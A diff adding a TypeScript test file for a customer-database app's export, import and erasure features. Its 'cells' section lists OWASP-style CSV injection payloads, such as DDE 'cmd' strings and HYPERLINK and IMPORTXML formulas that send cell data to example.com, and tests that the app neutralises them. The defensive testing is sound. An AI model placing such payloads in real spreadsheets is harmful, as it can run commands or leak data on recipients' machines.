@@ -1,0 +1,292 @@
+import 'fake-indexeddb/auto';
+import fc from 'fast-check';
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { dayFromIso, neutraliseCell, restoreCell } from '../../src/domain/index.ts';
+import { createEngine, type Engine, type ExportRequest } from '../../src/engine/index.ts';
+import { openWriter } from '../../src/intake/index.ts';
+import { openStore, type Store } from '../../src/store/index.ts';
+import { customer, order } from '../store/kit.ts';
+
+const today = dayFromIso('2026-09-30')!;
+const quiet = () => undefined;
+let bases = 0;
+
+function freshEngine(): { engine: Engine; store: Store } {
+  const store = openStore(`export-${++bases}`);
+  let ids = 0;
+  const engine = createEngine({
+    store,
+    now: () => new Date('2026-09-30T10:00:00Z'),
+    today: () => today,
+    newId: () => `id-${++ids}`,
+  });
+  return { engine, store };
+}
+
+const everybody = { of: 'customers', search: '' } as const;
+
+async function exported(engine: Engine, part: Partial<ExportRequest>): Promise<Blob> {
+  const subject = part.subject ?? 'customer';
+  const columns = (await engine.exportColumns(part.list ?? everybody, subject)).map(({ id }) => id);
+  const request = {
+    list: everybody,
+    subject,
+    columns,
+    format: 'csv',
+    bom: true,
+    title: 'x',
+    language: 'en',
+  } as const;
+  return engine.exportList('export', { ...request, ...part }, quiet);
+}
+
+async function imported(engine: Engine, content: Blob, name: string): Promise<void> {
+  const file = new File([content], name);
+  const { guess } = await engine.inspect(file);
+  const { refused } = await engine.runImport('import', file, guess, quiet);
+  expect(refused).toBe(0);
+}
+
+/** Everything that a file can carry of a customer. */
+async function held(store: Store): Promise<unknown> {
+  const ids = (await store.allKnown()).map(({ id }) => id).sort();
+  const customers = await store.customers(ids);
+  return Promise.all(
+    customers.map(async ({ id, name, company, title, address, emails, phones, columns, tags }) => ({
+      ...{ id, name, company, title, address, emails, phones, columns },
+      tags: tags.map(({ tag }) => tag),
+      ...(await store.facts(id)),
+    })),
+  );
+}
+
+const word = fc
+  .array(
+    fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      "'",
+      '1',
+      '2',
+      'a',
+      'B',
+      '张',
+      '伟',
+      ' ',
+      '"',
+      ',',
+      '<b>',
+      '&',
+      '＝',
+      '.',
+      '|',
+    ),
+    {
+      minLength: 1,
+      maxLength: 8,
+    },
+  )
+  .map(parts => `${parts.join('').trim()}客`.trim());
+const person = fc.record({
+  name: word,
+  company: word,
+  title: word,
+  address: word,
+  phones: fc.constantFrom<string[]>([], ['13800138000'], ['+12025550143', '13900139000']),
+  email: fc.integer({ min: 1, max: 9_999 }),
+  joined: fc.option(fc.integer({ min: 10_000, max: 20_000 }), { nil: undefined }),
+  income: fc.option(fc.integer({ min: 0, max: 99_999_999 }), { nil: undefined }),
+  amounts: fc.array(fc.integer({ min: 1, max: 9_999_999 }), { maxLength: 3 }),
+});
+
+describe('export and import', () => {
+  it.each(['csv', 'xlsx', 'json'] as const)('give the same base again (%s)', async format => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.uniqueArray(person, { minLength: 1, maxLength: 6, selector: ({ email }) => email }),
+        fc.constantFrom<'en' | 'zh'>('en', 'zh'),
+        async (people, language) => {
+          const first = freshEngine();
+          await first.store.commit({
+            customers: people.map(({ email, joined, income, amounts: _, ...texts }, i) =>
+              customer(`C${i}`, {
+                ...texts,
+                phones: i === 0 ? texts.phones : [],
+                emails: [`p${email}@example.com`],
+                columns: {
+                  industry: 'C',
+                  ...(joined === undefined ? {} : { joined }),
+                  ...(income === undefined ? {} : { income }),
+                },
+                tags: i % 2 === 0 ? [{ tag: '=VIP', author: 'a', at: 1 }] : [],
+              }),
+            ),
+            orders: new Map(
+              people.map(({ amounts }, i) => [
+                `C${i}`,
+                amounts.map((amount, n) =>
+                  order(20_000 + n, {
+                    number: `O${i}-${n}`,
+                    amount,
+                    minute: n === 1 ? 615 : -1,
+                    product: '+1 手机',
+                  }),
+                ),
+              ]),
+            ),
+            interactions: new Map(),
+            currency: 'CNY',
+          });
+          const second = freshEngine();
+          const customers = await exported(first.engine, { format, language, columns: carried });
+          await imported(second.engine, customers, `customers.${format}`);
+          if (people.some(({ amounts }) => amounts.length > 0)) {
+            const orders = await exported(first.engine, { format, language, subject: 'order' });
+            await imported(second.engine, orders, `orders.${format}`);
+          }
+          expect(await held(second.store)).toEqual(await held(first.store));
+        },
+      ),
+      { numRuns: 4, endOnFailure: true },
+    );
+  });
+});
+
+const carried = [
+  ...['customerId', 'name', 'company', 'title', 'email', 'phone', 'address'],
+  ...['industry', 'joined', 'income', 'labels'],
+];
+
+describe('cells', () => {
+  // OWASP, CSV Injection; and payloads that circulate for it.
+  const payloads = [
+    '=1+1',
+    '=1+2";=1+2',
+    '=1+2\'" ;,=1+2',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.com?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://example.com/", A1), "//a")',
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1+1',
+    '＠SUM(1)',
+    "'=1+1",
+    '+86-138',
+  ];
+  it.each(payloads)('%j begins no formula, and comes back', async text => {
+    expect(neutraliseCell(text)).toBe(`'${text}`);
+    expect(restoreCell(neutraliseCell(text))).toBe(text);
+    const columns = [{ name: text, kind: 'text' }] as const;
+    for (const format of ['csv', 'xlsx'] as const) {
+      const writer = openWriter(columns, { format, bom: false, title: text });
+      writer.add([[text], [[text, 'b']]]);
+      const file = writer.end();
+      const cells =
+        format === 'csv'
+          ? Papa.parse<string[]>(await file.text()).data.flat()
+          : [...sheetOf(await file.arrayBuffer()).matchAll(/<t [^>]*>([^<]*)/g)].map(([, cell]) => cell!);
+      expect(cells.filter(cell => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
+      expect(cells.filter(cell => cell.startsWith("'"))).toHaveLength(3);
+    }
+  });
+
+  it('that are numbers and phone numbers stay as they are', () => {
+    for (const text of ['-12.50', '+8613800138000', '+86 138 0013 8000', '-5', '', 'a=1', '张伟', "'a"]) {
+      expect(neutraliseCell(text)).toBe(text);
+    }
+  });
+
+  it('come back whatever they are', () => {
+    const text = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '1', 'a', '\t', '＝', ' ') });
+    fc.assert(
+      fc.property(text, each => {
+        expect(restoreCell(neutraliseCell(each))).toBe(each);
+      }),
+    );
+  });
+});
+
+function sheetOf(file: ArrayBuffer): string {
+  return strFromU8(unzipSync(new Uint8Array(file))['xl/worksheets/sheet1.xml']!);
+}
+
+describe('a list', () => {
+  it('of a rule has its members, in their order, with metrics, tier, tags and segments', async () => {
+    const { engine, store } = freshEngine();
+    await store.commit({
+      customers: ['a', 'b', 'c'].map(id => customer(id)),
+      orders: new Map([
+        ['a', [order(today - 5, { amount: 12_345 })]],
+        ['b', [order(today - 9, { amount: 99_900 })]],
+      ]),
+      interactions: new Map(),
+    });
+    const text =
+      'metric spent = sum(orders.amount)\ntag Buyer\n  when frequency >= 1\nsegment S\n  when tag `Buyer`\n';
+    const list = { of: 'members', text, name: 'Buyer', show: 'matches', search: '' } as const;
+    const columns = ['name', '#tags', '#segments', 'spent', 'lastOrder', 'recency'];
+    const rows = JSON.parse(await (await exported(engine, { list, columns, format: 'json' })).text());
+    expect(rows).toEqual([
+      {
+        Name: 'Name b',
+        'Tags by rules': ['Buyer'],
+        'Segments by rules': ['S'],
+        'Last order': '2026-09-21',
+        Recency: 9,
+        spent: 999,
+      },
+      expect.objectContaining({ Name: 'Name a', spent: 123.45 }),
+    ]);
+    const csv = await (await exported(engine, { list, columns: ['name', 'spent'], bom: true })).arrayBuffer();
+    expect([...new Uint8Array(csv.slice(0, 3))]).toEqual([0xef, 0xbb, 0xbf]);
+    const sheet = sheetOf(await (await exported(engine, { list, columns, format: 'xlsx' })).arrayBuffer());
+    expect(sheet).toContain(`<v>${today - 9 + 25_569}</v>`);
+    expect(sheet).toContain('<v>123.45</v>');
+  });
+});
+
+describe('one person', () => {
+  it('is exported whole, and after the erasure found nowhere; the log says that it happened, not who', async () => {
+    const { engine, store } = freshEngine();
+    await store.commit({
+      customers: [customer('zoe', { name: 'Zoe Quill', phones: ['+8613800138000'] }), customer('b')],
+      orders: new Map([['zoe', [order(today - 3, { number: 'Q-1' })]]]),
+      interactions: new Map(),
+    });
+    await engine.refresh('r', quiet);
+    const zip = unzipSync(new Uint8Array(await (await engine.exportPerson('zoe', 'en'))!.arrayBuffer()));
+    expect(Object.keys(zip).sort()).toEqual([
+      'customers.csv',
+      'interactions.csv',
+      'orders.csv',
+      'person.json',
+    ]);
+    expect(JSON.parse(strFromU8(zip['person.json']!))).toMatchObject({ customer: { name: 'Zoe Quill' } });
+    expect(strFromU8(zip['orders.csv']!)).toContain('Q-1');
+    expect(await engine.exportPerson('nobody', 'en')).toBeNull();
+
+    await engine.backup('b', { passphrase: '', extra: '' }, quiet);
+    expect(await engine.removeCustomers('e', ['zoe'], quiet)).toBe(1);
+    expect(await store.cardsFor(['e:zoe@example.com', 'p:13800138000', 'i:zoe'])).toEqual([]);
+    expect(await store.search('zoe', 5)).toEqual([]);
+    expect(await engine.customer('zoe')).toBeNull();
+    const log = await engine.backups();
+    expect(log.erased).toEqual([{ at: new Date('2026-09-30T10:00:00Z').getTime(), people: 1 }]);
+    const { file } = await store.backup({ passphrase: '', extra: '', now: 9 });
+    const other = openStore(`export-${++bases}`);
+    await other.restore(file, '');
+    expect(await other.customer('zoe')).toBeNull();
+    expect((await other.backups()).erased).toEqual(log.erased);
+  });
+});
